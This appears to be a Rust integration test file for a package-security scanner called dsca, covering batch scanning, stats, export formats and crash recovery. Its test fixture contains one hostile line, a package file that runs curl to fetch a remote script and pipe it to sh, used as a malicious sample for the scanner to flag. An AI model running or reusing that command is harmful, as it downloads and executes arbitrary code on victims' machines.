//! `dsca batch`, `stats` and `export` end to end: the real binary against the local test
//! registry, with SQLite stores in temp dirs. Offline and deterministic.

mod common;

use common::{NOW, PUBLISHED, Run, dsca, publish_at as publish, run};
use dsca_test::{PackageBuilder, PublishOptions, TempHome, TestDownloadsApi, TestRegistry};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// Three harmless packages and one whose tarball does not match its integrity (judged
/// malicious by DSCA501).
fn small_registry() -> TestRegistry {
    let registry = TestRegistry::start();
    // `debug` is rank 3 of the bundled popularity list: it counts in every top tier.
    for name in ["alpha", "beta", "gamma", "debug"] {
        publish(
            &registry,
            PackageBuilder::new(name, "1.0.0")
                .manifest_field("description", "harmless".into())
                .manifest_field("repository", format!("github:demo/{name}").into())
                .file("index.js", "module.exports = 1;\n"),
        );
    }
    registry.publish_with(
        PackageBuilder::new("tampered", "1.0.0")
            .file(
                "index.js",
                "require('child_process').exec('curl http://203.0.113.9/x | sh');\n",
            )
            .build(),
        PublishOptions {
            time: Some(PUBLISHED.to_string()),
            integrity_override: Some(format!("sha512-{}", "A".repeat(86) + "==")),
            ..PublishOptions::default()
        },
    );
    registry
}

fn write(home: &TempHome, name: &str, contents: &str) -> PathBuf {
    let path = home.project_dir().join(name);
    std::fs::write(&path, contents).expect("write the input");
    path
}

fn db_path(home: &TempHome) -> String {
    home.path().join("results.db").display().to_string()
}

/// `dsca batch` against the test registry into `db`, with `args` naming the input.
fn batch(home: &TempHome, registry: &TestRegistry, db: &str, args: &[&str]) -> Run {
    run(dsca(home)
        .args(["batch", "--db", db, "--registry", registry.url()])
        .args(args))
}

/// Every stored report (`dsca export --format jsonl`), by spec.
fn exported(home: &TempHome, db: &str) -> Vec<Value> {
    let out = run(dsca(home).args(["export", "--db", db, "--format", "jsonl"]));
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    out.stdout
        .lines()
        .map(|line| serde_json::from_str(line).expect("a JSON line"))
        .collect()
}

fn specs_of(reports: &[Value]) -> Vec<String> {
    reports
        .iter()
        .map(|report| report["spec"].as_str().expect("spec").to_string())
        .collect()
}

#[test]
fn a_names_file_is_scanned_into_the_store_with_unknown_names_recorded() {
    let home = TempHome::new();
    let registry = small_registry();
    let db = db_path(&home);
    write(
        &home,
        "names.txt",
        "# a study\nalpha\nbeta # inline comment\n\ntampered\nno-such-package\nalpha\n",
    );
    let out = batch(
        &home,
        &registry,
        &db,
        &["--names-file", "names.txt", "-j", "2"],
    );
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    assert!(
        out.stderr.contains("5 name(s) read, 4 new in the store"),
        "{}",
        out.stderr
    );
    let reports = exported(&home, &db);
    let mut specs = specs_of(&reports);
    specs.sort();
    assert_eq!(specs, ["alpha", "beta", "no-such-package", "tampered"]);
    let unknown = reports
        .iter()
        .find(|report| report["spec"] == "no-such-package")
        .expect("the unknown name is recorded");
    assert_eq!(unknown["errors"][0]["code"], "not-found");

    // Running it again finds nothing left to do and scans nothing twice.
    let requests_before = registry.requests().len();
    let again = batch(&home, &registry, &db, &["--names-file", "names.txt"]);
    assert_eq!(again.code, 0, "stderr: {}", again.stderr);
    assert!(
        again.stderr.contains("0 new in the store"),
        "{}",
        again.stderr
    );
    assert_eq!(registry.requests().len(), requests_before);
    assert_eq!(exported(&home, &db).len(), 4);
}

#[test]
fn stats_and_exports_of_a_small_study() {
    let home = TempHome::new();
    let registry = small_registry();
    let db = db_path(&home);
    write(
        &home,
        "names.json",
        "[\"alpha\", \"debug\", \"gamma\", \"tampered\", \"no-such-package\"]",
    );
    let out = batch(&home, &registry, &db, &["--names", "names.json", "-j", "1"]);
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);

    let stats = run(dsca(&home).args(["stats", "--db", &db]));
    assert_eq!(stats.code, 0, "stderr: {}", stats.stderr);
    insta::assert_snapshot!("batch_stats_text", stats.stdout);
    let json = run(dsca(&home).args(["stats", "--db", &db, "--format", "json"]));
    let value: Value = serde_json::from_str(&json.stdout).expect("stats JSON");
    assert_eq!(value["packages"], 5);
    assert_eq!(value["failed"], 2);

    let csv = run(dsca(&home).args(["export", "--db", &db, "--format", "csv"]));
    assert_eq!(csv.code, 0, "stderr: {}", csv.stderr);
    // The scan time differs per run: compare everything before it.
    let rows: Vec<String> = csv
        .stdout
        .lines()
        .map(|line| {
            line.rsplit_once(',')
                .map_or(line, |(head, _)| head)
                .to_string()
        })
        .collect();
    insta::assert_snapshot!("batch_export_csv", rows.join("\n"));

    let osv = run(dsca(&home).args(["export", "--db", &db, "--format", "osv"]));
    assert_eq!(osv.code, 0, "stderr: {}", osv.stderr);
    let records: Vec<Value> = osv
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).expect("an OSV record"))
        .collect();
    assert_eq!(records.len(), 1, "{}", osv.stdout);
    let mut record = records[0].clone();
    for field in ["modified", "published"] {
        assert!(record[field].as_str().is_some_and(|t| t.ends_with('Z')));
        record[field] = "[time]".into();
    }
    let text = serde_json::to_string_pretty(&record)
        .expect("JSON")
        .replace(registry.url().trim_end_matches('/'), "http://[registry]");
    insta::assert_snapshot!("batch_export_osv", text);

    // The exported records load back as advisories, and the next scan of the same
    // version is judged by them.
    let osv_file = home.path().join("found.jsonl");
    std::fs::write(&osv_file, &osv.stdout).expect("write the export");
    let loaded = run(dsca(&home).args(["db", "update", "--from"]).arg(&osv_file));
    assert_eq!(loaded.code, 0, "{}", loaded.stderr);
    assert!(
        loaded.stdout.contains("1 advisories for 1 packages"),
        "{}",
        loaded.stdout
    );

    // Written whole to a file with -o.
    let file = home.path().join("out.jsonl");
    let to_file = run(dsca(&home).args([
        "export",
        "--db",
        &db,
        "--format",
        "jsonl",
        "-o",
        file.to_str().expect("UTF-8"),
    ]));
    assert_eq!(to_file.code, 0, "stderr: {}", to_file.stderr);
    assert_eq!(
        std::fs::read_to_string(&file)
            .expect("export file")
            .lines()
            .count(),
        5
    );
}

#[test]
fn top_n_queues_the_most_downloaded_packages() {
    let home = TempHome::new();
    let db = db_path(&home);
    let out = run(dsca(&home).args(["batch", "--top", "25", "--db", &db, "--enqueue-only"]));
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    assert!(
        out.stderr.contains("25 name(s) read, 25 new in the store"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("25 job(s): 0 done, 0 failed, 25 queued"),
        "{}",
        out.stderr
    );
}

/// `--min-downloads` through the downloads API: unscoped names in one bulk request,
/// the scoped one alone, a 429 retried; packages under the threshold and unknown ones
/// are recorded as skipped, not scanned, and a second run asks the API nothing.
#[test]
fn min_downloads_keeps_popular_packages_and_records_the_others_as_skipped() {
    let home = TempHome::new();
    let registry = small_registry();
    publish(
        &registry,
        PackageBuilder::new("@demo/scoped", "1.0.0")
            .manifest_field("repository", "github:demo/scoped".into())
            .file("index.js", "module.exports = 1;\n"),
    );
    let api = TestDownloadsApi::start();
    api.set("alpha", 5_000);
    api.set("beta", 10);
    api.set("@demo/scoped", 2_000);
    api.rate_limit_next(1, Some("0"));
    let db = db_path(&home);
    write(&home, "names.txt", "alpha\nbeta\ngamma\n@demo/scoped\n");
    let args = [
        "--names-file",
        "names.txt",
        "--min-downloads",
        "1000",
        "--period",
        "last-6-months",
        "--downloads-api",
        api.url(),
    ];
    let out = batch(&home, &registry, &db, &args);
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    assert!(
        out.stderr.contains(
            "popularity filter (at least 1000 downloads, 2025-07-15:2026-01-14): \
             2 new name(s) kept, 1 skipped below, 1 unknown to the downloads API (skipped)"
        ),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("2 job(s): 2 done, 0 failed, 0 queued, 0 running; 2 skipped"),
        "{}",
        out.stderr
    );
    assert_eq!(
        api.requests(),
        [
            "/downloads/point/2025-07-15:2026-01-14/@demo/scoped",
            "/downloads/point/2025-07-15:2026-01-14/@demo/scoped",
            "/downloads/point/2025-07-15:2026-01-14/alpha,beta,gamma",
        ]
    );
    let mut specs = specs_of(&exported(&home, &db));
    specs.sort();
    assert_eq!(specs, ["@demo/scoped", "alpha"]);
    // No tarball of a skipped package was fetched.
    assert!(
        tarball_fetches(&registry)
            .keys()
            .all(|path| !path.contains("beta") && !path.contains("gamma"))
    );
    let stats = run(dsca(&home).args(["stats", "--db", &db, "--format", "json"]));
    let value: Value = serde_json::from_str(&stats.stdout).expect("stats JSON");
    assert_eq!(
        value["skipped"],
        serde_json::json!([["below-min-downloads", 1], ["unknown-downloads", 1]])
    );

    let again = batch(&home, &registry, &db, &args);
    assert_eq!(again.code, 0, "stderr: {}", again.stderr);
    assert!(
        again.stderr.contains("0 new in the store"),
        "{}",
        again.stderr
    );
    assert_eq!(
        api.requests().len(),
        3,
        "names already in the store are not looked up"
    );
}

#[test]
fn a_downloads_file_is_the_offline_popularity_source() {
    let home = TempHome::new();
    let db = db_path(&home);
    write(&home, "names.txt", "alpha\nbeta\ngamma\n");
    write(
        &home,
        "counts.tsv",
        "# name\tdownloads\nalpha\t5000\nbeta\t3\n",
    );
    write(&home, "bad.tsv", "alpha\t5000\nbeta 3\n");
    let filtered = |extra: &[&str]| {
        run(dsca(&home)
            .args([
                "batch",
                "--names-file",
                "names.txt",
                "--min-downloads",
                "100",
            ])
            .args(["--db", &db, "--enqueue-only"])
            .args(extra))
    };
    let out = filtered(&["--downloads-file", "counts.tsv"]);
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    assert!(
        out.stderr.contains(
            "(at least 100 downloads, file counts.tsv): 1 new name(s) kept, 1 skipped below, \
             1 unknown to the downloads file (skipped)"
        ),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("1 job(s): 0 done, 0 failed, 1 queued, 0 running; 2 skipped"),
        "{}",
        out.stderr
    );
    // A lower threshold later scans what the higher one skipped, from the counts stored.
    let lower = run(dsca(&home)
        .args(["batch", "--names-file", "names.txt", "--min-downloads", "2"])
        .args([
            "--db",
            &db,
            "--enqueue-only",
            "--downloads-file",
            "counts.tsv",
        ]));
    assert_eq!(lower.code, 0, "stderr: {}", lower.stderr);
    assert!(
        lower
            .stderr
            .contains("1 job(s) skipped by an earlier, higher --min-downloads queued again"),
        "{}",
        lower.stderr
    );
    assert!(
        lower
            .stderr
            .contains("0 done, 0 failed, 2 queued, 0 running; 1 skipped"),
        "{}",
        lower.stderr
    );
    for (extra, error) in [
        (
            ["--downloads-file", "bad.tsv"],
            "bad.tsv: line 2: expected `name<TAB>downloads`",
        ),
        (
            ["--period", "last-24-months"],
            "invalid period `last-24-months`: give between 1 and 18 months",
        ),
    ] {
        let out = filtered(&extra);
        assert_eq!(out.code, 2);
        assert_eq!(out.stderr.trim(), format!("dsca: error: {error}"));
    }
}

/// With a results store, `dsca scan --db` shows beside each finding how many stored
/// packages the rule fired in per popularity tier; never with `--no-db`, and never from
/// a store it was not told about (`./dsca-results.db`, where `dsca batch` writes).
#[test]
fn scan_shows_the_prevalence_of_each_finding_from_the_store() {
    let home = TempHome::new();
    let registry = small_registry();
    write(
        &home,
        "names.json",
        "[\"alpha\", \"debug\", \"gamma\", \"tampered\"]",
    );
    let out = run(dsca(&home).args([
        "batch",
        "--names",
        "names.json",
        "--registry",
        registry.url(),
    ]));
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    assert!(home.project_dir().join("dsca-results.db").is_file());

    let scan = |extra: &[&str]| {
        run(dsca(&home)
            .args(["scan", "tampered", "--registry", registry.url()])
            .args(extra))
    };
    let line = "    Prevalence: found in 0 of the top 100, 0 of the top 1k, 0 of the top 10k \
                and 1 of all 4 scanned packages\n";
    // The store batch wrote in the current directory changes nothing by being there.
    assert!(!scan(&["--color", "never"]).stdout.contains("Prevalence:"));
    let text = scan(&["--color", "never", "--db", "dsca-results.db"]);
    assert!(text.stdout.contains(line), "{}", text.stdout);
    assert!(
        !scan(&["--db", "dsca-results.db", "--no-db"])
            .stdout
            .contains("Prevalence:")
    );

    // The same from a store elsewhere, in JSON, which the report schema accepts.
    let moved = home.path().join("study.db");
    std::fs::rename(home.project_dir().join("dsca-results.db"), &moved).expect("move the store");
    let json = scan(&["--db", moved.to_str().expect("UTF-8"), "--format", "json"]);
    let report: Value = serde_json::from_str(&json.stdout).expect("JSON report");
    let finding = report["findings"]
        .as_array()
        .and_then(|findings| findings.iter().find(|f| f["rule"] == "DSCA501"))
        .expect("the integrity finding");
    assert_eq!(
        finding["prevalence"],
        serde_json::json!([
            {"top": 100, "packages": 0, "scanned": 1},
            {"top": 1000, "packages": 0, "scanned": 1},
            {"top": 10000, "packages": 0, "scanned": 1},
            {"top": null, "packages": 1, "scanned": 4},
        ])
    );
    let schema: Value = serde_json::from_str(include_str!("../../../schema/report.schema.json"))
        .expect("the schema");
    let validator = jsonschema::options()
        .build(&schema)
        .expect("schema compiles");
    let errors: Vec<String> = validator
        .iter_errors(&report)
        .map(|e| e.to_string())
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");

    let missing = scan(&["--db", "nowhere.db"]);
    assert_eq!(missing.code, 2);
    assert!(
        missing
            .stderr
            .contains("--db nowhere.db: no such results store"),
        "{}",
        missing.stderr
    );
    assert!(!home.project_dir().join("nowhere.db").exists());
}

/// Run `dsca batch FLAG FILE` over `contents`: it must fail; returns its standard error.
fn refused_names(home: &TempHome, flag: &str, file: &str, contents: &str) -> String {
    write(home, file, contents);
    let db = db_path(home);
    let out = run(dsca(home).args(["batch", flag, file, "--db", &db, "--enqueue-only"]));
    assert_eq!(out.code, 2, "{flag} {file} was accepted");
    out.stderr.trim().to_string()
}

#[test]
fn malformed_names_inputs_are_refused_with_their_position() {
    let home = TempHome::new();
    assert_eq!(
        refused_names(
            &home,
            "--names",
            "bad.json",
            "[\"alpha\",\n \"beta\" \"gamma\"]"
        ),
        "dsca: error: bad.json: expected `,` or `]` at byte 18"
    );
    assert_eq!(
        refused_names(&home, "--names", "object.json", "{\"names\": []}"),
        "dsca: error: object.json: expected `[` (a JSON array of names) at byte 0"
    );
    assert_eq!(
        refused_names(&home, "--names-file", "bad.txt", "alpha\nbeta gamma\n"),
        "dsca: error: bad.txt: line 2: `beta gamma` holds whitespace: one spec a line"
    );
    let db = db_path(&home);
    let out = run(dsca(&home).args(["batch", "--names-file", "missing.txt", "--db", &db]));
    assert_eq!(out.code, 2);
    assert!(
        out.stderr
            .starts_with("dsca: error: cannot open missing.txt"),
        "{}",
        out.stderr
    );
}

#[test]
fn a_store_written_by_a_newer_dsca_is_refused() {
    let home = TempHome::new();
    let db = db_path(&home);
    {
        let store = dsca_store::Store::open(&db).expect("open");
        store
            .force_schema_version(dsca_store::SCHEMA_VERSION + 5)
            .expect("bump the version");
    }
    for args in [
        vec!["batch", "--top", "3", "--db", &db],
        vec!["stats", "--db", &db],
        vec!["export", "--db", &db, "--format", "jsonl"],
    ] {
        let out = run(dsca(&home).args(&args));
        assert_eq!(out.code, 2, "{args:?}");
        assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
        assert!(
            out.stderr.contains("written by a newer dsca"),
            "{}",
            out.stderr
        );
    }
}

/// Kill a batch with SIGKILL part-way, start it again: every package ends with exactly one
/// result, and the packages finished before the kill are not scanned again.
#[test]
fn a_killed_batch_resumes_with_nothing_lost_or_doubled() {
    let home = TempHome::new();
    let (registry, names) = registry_of_many(&home, 120);
    let db = db_path(&home);
    let mut child = start_batch_of_names(&home, &registry, &db);
    let finished_at_kill = wait_for_results_in(&db, 5, Duration::from_secs(120));
    child.kill().expect("kill the batch");
    child.wait().expect("reap the batch");
    let store = dsca_store::Store::open(&db).expect("open");
    let counts = store.job_counts().expect("counts");
    drop(store);
    assert!(
        counts.queued + counts.running > 0,
        "the batch finished before it could be killed ({finished_at_kill} results seen): {counts:?}"
    );
    let tarballs_before = tarball_fetches(&registry);

    let out = batch(
        &home,
        &registry,
        &db,
        &["--names-file", "names.txt", "-j", "2"],
    );
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    assert_resumed_once_each(&home, &registry, &db, &names, &tarballs_before);
}

/// Results the writer holds (appended to its journal, not yet in the store) when the
/// process dies are written by the next run, not scanned again. The batch is frozen
/// (SIGSTOP) while its journal holds two results or more, so what it held at the kill is
/// known, then killed.
#[test]
fn results_held_by_a_killed_batch_are_written_by_the_next_run() {
    let home = TempHome::new();
    let (registry, names) = registry_of_many(&home, 120);
    let db = db_path(&home);
    let journals = PathBuf::from(format!("{db}.pending"));
    let mut child = start_batch_of_names(&home, &registry, &db);
    let signal = |name: &str| {
        let status = std::process::Command::new("kill")
            .args([&format!("-{name}"), &child.id().to_string()])
            .status()
            .expect("run kill");
        assert!(status.success(), "kill -{name}");
    };
    let started = Instant::now();
    let held = loop {
        assert!(
            started.elapsed() < Duration::from_secs(120),
            "the journal never held two results"
        );
        if held_in_journals(&journals) >= 2 {
            signal("STOP");
            let held = held_in_journals(&journals);
            if held >= 2 {
                break held;
            }
            signal("CONT");
        }
        std::thread::sleep(Duration::from_millis(1));
    };
    child.kill().expect("kill the batch");
    child.wait().expect("reap the batch");
    let tarballs_before = tarball_fetches(&registry);

    let out = batch(&home, &registry, &db, &["-j", "2"]);
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    assert!(
        out.stderr.contains(&format!(
            "{held} result(s) an earlier process held written from its journal (0 already"
        )),
        "stderr: {}",
        out.stderr
    );
    assert!(!journals.exists(), "the journal directory is left behind");
    assert_resumed_once_each(&home, &registry, &db, &names, &tarballs_before);
}

/// `dsca batch -j 1` of names.txt into `db`, running in the background to be killed.
fn start_batch_of_names(home: &TempHome, registry: &TestRegistry, db: &str) -> std::process::Child {
    std::process::Command::new(assert_cmd::cargo::cargo_bin("dsca"))
        .args(["batch", "--names-file", "names.txt", "--db", db])
        .args(["--registry", registry.url(), "-j", "1"])
        .envs(home.envs())
        .env("DSCA_NOW", NOW)
        .env_remove("DSCA_DB")
        .current_dir(home.project_dir())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("start the batch")
}

/// After a killed batch and a second run: one clean result per package, and each
/// package's tarball fetched once over both runs, but for the one being scanned at the kill.
fn assert_resumed_once_each(
    home: &TempHome,
    registry: &TestRegistry,
    db: &str,
    names: &[String],
    tarballs_before: &BTreeMap<String, usize>,
) {
    let reports = exported(home, db);
    let specs = specs_of(&reports);
    let distinct: BTreeSet<&String> = specs.iter().collect();
    assert_eq!(specs.len(), names.len(), "one result per package");
    assert_eq!(distinct.len(), names.len());
    assert!(
        reports
            .iter()
            .all(|report| report["errors"].as_array().is_some_and(Vec::is_empty))
    );
    let tarballs = tarball_fetches(registry);
    let fetched_twice = tarballs.values().filter(|&&count| count > 1).count();
    assert!(fetched_twice <= 1, "re-fetched: {tarballs:?}");
    assert!(tarballs_before.len() < names.len());
}

/// Complete result lines in the journals of `dir` (each begins with a header line).
fn held_in_journals(dir: &Path) -> usize {
    let Ok(listing) = std::fs::read_dir(dir) else {
        return 0;
    };
    listing
        .filter_map(|entry| std::fs::read(entry.ok()?.path()).ok())
        .map(|bytes| {
            bytes
                .iter()
                .filter(|&&b| b == b'\n')
                .count()
                .saturating_sub(1)
        })
        .sum()
}

/// Tarball requests per path in the test registry's log.
fn tarball_fetches(registry: &TestRegistry) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for (_method, path, _auth) in registry.requests() {
        if path.ends_with(".tgz") {
            *counts.entry(path).or_insert(0) += 1;
        }
    }
    counts
}

/// Poll the store (a SQLite path or a PostgreSQL URL) until it holds `want` results.
fn wait_for_results_in(db: &str, want: i64, limit: Duration) -> i64 {
    let started = Instant::now();
    loop {
        let is_url = db.starts_with("postgres");
        if (is_url || Path::new(db).exists())
            && let Ok(store) = dsca_store::Store::open(db)
            && let Ok(counts) = store.job_counts()
            && counts.finished() >= want
        {
            return counts.finished();
        }
        assert!(started.elapsed() < limit, "no results after {limit:?}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The test PostgreSQL database, emptied, when DSCA_PG_TESTS=1 (see `.ci/postgres.sh`),
/// kept from the other PostgreSQL tests while the returned guard lives.
fn pg_database(test: &str) -> Option<(String, dsca_test::PgTestDatabase)> {
    let database = dsca_test::pg_test_database(test)?;
    let store = dsca_store::Store::open(&database.url).expect("open the test database");
    store.reset_for_tests().expect("empty the test database");
    Some((database.url.clone(), database))
}

/// A registry of `count` packages with enough code to take a while each, and a names file.
fn registry_of_many(home: &TempHome, count: usize) -> (TestRegistry, Vec<String>) {
    let registry = TestRegistry::start();
    let body = "function f(a) { return a + 1; }\n".repeat(4000);
    let names: Vec<String> = (0..count).map(|i| format!("pkg-{i:03}")).collect();
    for name in &names {
        publish(
            &registry,
            PackageBuilder::new(name, "1.0.0").file("index.js", body.clone()),
        );
    }
    write(home, "names.txt", &names.join("\n"));
    (registry, names)
}

/// `dsca batch --enqueue-only` of the names file into `db`.
fn enqueue_names_file(home: &TempHome, db: &str) {
    let out = run(dsca(home).args([
        "batch",
        "--names-file",
        "names.txt",
        "--db",
        db,
        "--enqueue-only",
    ]));
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
}

fn spawn_worker(
    home: &TempHome,
    registry: &TestRegistry,
    db: &str,
    extra: &[&str],
) -> std::process::Child {
    std::process::Command::new(assert_cmd::cargo::cargo_bin("dsca"))
        .args([
            "worker",
            "--db",
            db,
            "--registry",
            registry.url(),
            "-j",
            "1",
        ])
        .args(extra)
        .envs(home.envs())
        .env("DSCA_NOW", NOW)
        .env_remove("DSCA_DB")
        .current_dir(home.project_dir())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("start a worker")
}

fn assert_one_result_each(home: &TempHome, db: &str, names: &[String]) {
    let mut specs = specs_of(&exported(home, db));
    specs.sort();
    assert_eq!(specs, names, "exactly one result per package");
}

/// `dsca batch --enqueue-only` fills a PostgreSQL queue; two `dsca worker` processes
/// drain it together with no package scanned twice.
#[test]
fn postgres_two_worker_processes_share_one_queue() {
    let Some((db, _serial)) = pg_database("postgres_two_worker_processes_share_one_queue") else {
        return;
    };
    let home = TempHome::new();
    let (registry, names) = registry_of_many(&home, 40);
    enqueue_names_file(&home, &db);
    let workers = [
        spawn_worker(&home, &registry, &db, &[]),
        spawn_worker(&home, &registry, &db, &[]),
    ];
    for worker in workers {
        let output = worker.wait_with_output().expect("worker");
        assert!(
            output.status.success(),
            "worker failed: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    assert_one_result_each(&home, &db, &names);
    let tarballs = tarball_fetches(&registry);
    assert_eq!(tarballs.len(), names.len());
    assert!(tarballs.values().all(|&count| count == 1), "{tarballs:?}");
}

/// A worker killed mid-job leaves it `running`; once its lease runs out another worker
/// claims it, and every package still ends with exactly one result.
#[test]
fn postgres_a_dead_workers_jobs_are_reclaimed_after_the_lease() {
    let Some((db, _serial)) =
        pg_database("postgres_a_dead_workers_jobs_are_reclaimed_after_the_lease")
    else {
        return;
    };
    let home = TempHome::new();
    let (registry, names) = registry_of_many(&home, 60);
    enqueue_names_file(&home, &db);
    let mut doomed = spawn_worker(&home, &registry, &db, &["--lease-secs", "2"]);
    wait_for_results_in(&db, 3, Duration::from_secs(120));
    doomed.kill().expect("kill the worker");
    doomed.wait().expect("reap the worker");
    let counts = dsca_store::Store::open(&db)
        .expect("open")
        .job_counts()
        .expect("counts");
    assert!(
        counts.queued + counts.running > 0,
        "finished before the kill: {counts:?}"
    );
    let survivor = spawn_worker(&home, &registry, &db, &["--lease-secs", "2"]);
    let output = survivor.wait_with_output().expect("worker");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let after = dsca_store::Store::open(&db)
        .expect("open")
        .job_counts()
        .expect("counts");
    if after.running > 0 {
        // The survivor emptied the queue before the dead worker's lease ran out: the
        // leftover job is reclaimed by the next worker once it has.
        std::thread::sleep(Duration::from_secs(3));
        let output = spawn_worker(&home, &registry, &db, &[])
            .wait_with_output()
            .expect("worker");
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    assert_one_result_each(&home, &db, &names);
}
